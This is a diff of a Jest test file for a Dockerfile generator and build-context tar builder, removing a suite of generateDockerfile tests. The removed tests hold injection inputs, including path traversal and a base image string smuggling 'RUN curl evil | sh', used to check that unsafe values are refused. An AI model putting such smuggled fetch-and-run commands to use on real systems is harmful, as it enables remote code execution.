@@ -1,101 +1,9 @@
 import { describe, expect, it } from '@jest/globals';
 import { Readable } from 'node:stream';
-import {
-  buildContextTar,
-  DOCKERIGNORE,
-  enginesWarning,
-  generateDockerfile,
-  type DockerfileInput,
-} from './dockerfile.js';
+import { buildContextTar, DOCKERIGNORE } from './dockerfile.js';
 import { collect, listTar, tarGz } from './testing/archive-fixtures.js';
 
-const base: DockerfileInput = {
-  baseImage: 'berth-deps-app1:0123456789abcdef0123456789abcdef',
-  start: { kind: 'script' },
-  runtimeNodeVersion: '20.20.2',
-};
-const lines = (input: Partial<DockerfileInput> = {}) =>
-  generateDockerfile({ ...base, ...input }).dockerfile.split('\n');
-const instructions = (text: string) =>
-  text
-    .split('\n')
-    .filter((line) => /^[A-Z]+ /.test(line))
-    .map((line) => line.split(' ')[0]);
-
-describe('generateDockerfile', () => {
-  it('builds FROM the dependency image with no RUN step: tenant code never runs in the builder', () => {
-    const text = generateDockerfile(base).dockerfile;
-    expect(text).toMatch(/^FROM berth-deps-app1:0123456789abcdef0123456789abcdef$/m);
-    expect(instructions(text)).toEqual(['FROM', 'ENV', 'WORKDIR', 'USER', 'COPY', 'EXPOSE', 'CMD']);
-    expect(text).not.toMatch(/^RUN /m);
-    expect(text).not.toContain('npm ci');
-    expect(text).not.toContain('npm install');
-  });
-
-  it("keeps the source's node_modules out, so the installed ones stay", () => {
-    expect(DOCKERIGNORE.split('\n')).toContain('**/node_modules');
-  });
-
-  it('runs as uid 10001 in /app with the production environment and the PORT contract', () => {
-    const text = generateDockerfile(base).dockerfile;
-    expect(text).toMatch(/^WORKDIR \/app$/m);
-    expect(text).toMatch(/^USER 10001$/m);
-    for (const env of [
-      'NODE_ENV=production',
-      'PORT=8080',
-      'npm_config_cache=/tmp/.npm',
-      'HOME=/tmp',
-      'NODE_EXTRA_CA_CERTS=/etc/ssl/certs/ca-certificates.crt',
-    ]) {
-      expect(text).toContain(env);
-    }
-    const all = text.split('\n');
-    expect(
-      all.filter((line) => line.startsWith('COPY')).every((line) => line.includes('--chown=10001:10001')),
-    ).toBe(true);
-  });
-
-  it('starts with npm start when there is a start script', () => {
-    expect(lines({ start: { kind: 'script' } })).toContain('CMD ["npm","start"]');
-  });
-
-  it('starts with node <main> otherwise', () => {
-    expect(lines({ start: { kind: 'main', main: './dist/server.js' } })).toContain(
-      'CMD ["node","dist/server.js"]',
-    );
-  });
-
-  it.each([['../etc/passwd'], ['/bin/sh'], ['--require=/x.js'], ['a\nRUN evil']])(
-    'refuses an unsafe main: %j',
-    (main) => {
-      expect(() => generateDockerfile({ ...base, start: { kind: 'main', main } })).toThrow('unsafe main');
-    },
-  );
-
-  it('refuses a base image that could inject instructions', () => {
-    expect(() => generateDockerfile({ ...base, baseImage: 'node:20\nRUN curl evil | sh' })).toThrow(
-      'invalid base image',
-    );
-  });
-
-  it('is deterministic, so the cache keys of unchanged layers stay the same', () => {
-    expect(generateDockerfile(base)).toEqual(generateDockerfile(base));
-  });
-
-  it('warns (never fails) when engines.node excludes the runtime version', () => {
-    expect(generateDockerfile({ ...base, nodeEnginesRange: '>=22' }).warnings).toEqual([
-      expect.stringContaining("does not include the runtime's Node.js 20.20.2"),
-    ]);
-    expect(generateDockerfile({ ...base, nodeEnginesRange: '^20.19 || >=22' }).warnings).toEqual([]);
-    expect(generateDockerfile(base).warnings).toEqual([]);
-  });
-
-  it('warns about an engines.node that is not a range', () => {
-    expect(enginesWarning('banana', '20.20.2')).toContain('not a valid version range');
-    expect(enginesWarning('20.x', '20.20.2')).toBeUndefined();
-    expect(enginesWarning('>=18 <20', '20.20.2')).toContain('does not include');
-  });
-});
+const dockerfile = 'FROM berth/node-runtime:local\nCOPY . .\n';
 
 describe('buildContextTar', () => {
   const sourceEntries = [
@@ -111,7 +19,6 @@ describe('buildContextTar', () => {
     ['a stored tar.gz', true],
     ['a plain tar', false],
   ])('puts the generated Dockerfile and .dockerignore before the sources of %s', async (_label, gzip) => {
-    const { dockerfile } = generateDockerfile(base);
     const normalizedTar = Readable.from([await tarGz(sourceEntries, { gzip })]);
     const listed = await listTar(await collect(buildContextTar({ normalizedTar, dockerfile })));
     // The tenant's own Dockerfile and .dockerignore are left out: ours cannot be replaced.
@@ -128,6 +35,10 @@ describe('buildContextTar', () => {
     expect(listed.find((entry) => entry.name === 'lib/app.js')?.body).toBe('app');
     expect(listed.find((entry) => entry.name === 'bin')).toMatchObject({ type: 'symlink', linkname: 'lib' });
     expect(listed.every((entry) => entry.uid === 0 && entry.gid === 0)).toBe(true);
+  });
+
+  it("keeps the source's node_modules out of COPY", () => {
+    expect(DOCKERIGNORE.split('\n')).toContain('**/node_modules');
   });
 
   it('fails the stream when the stored source is corrupt', async () => {
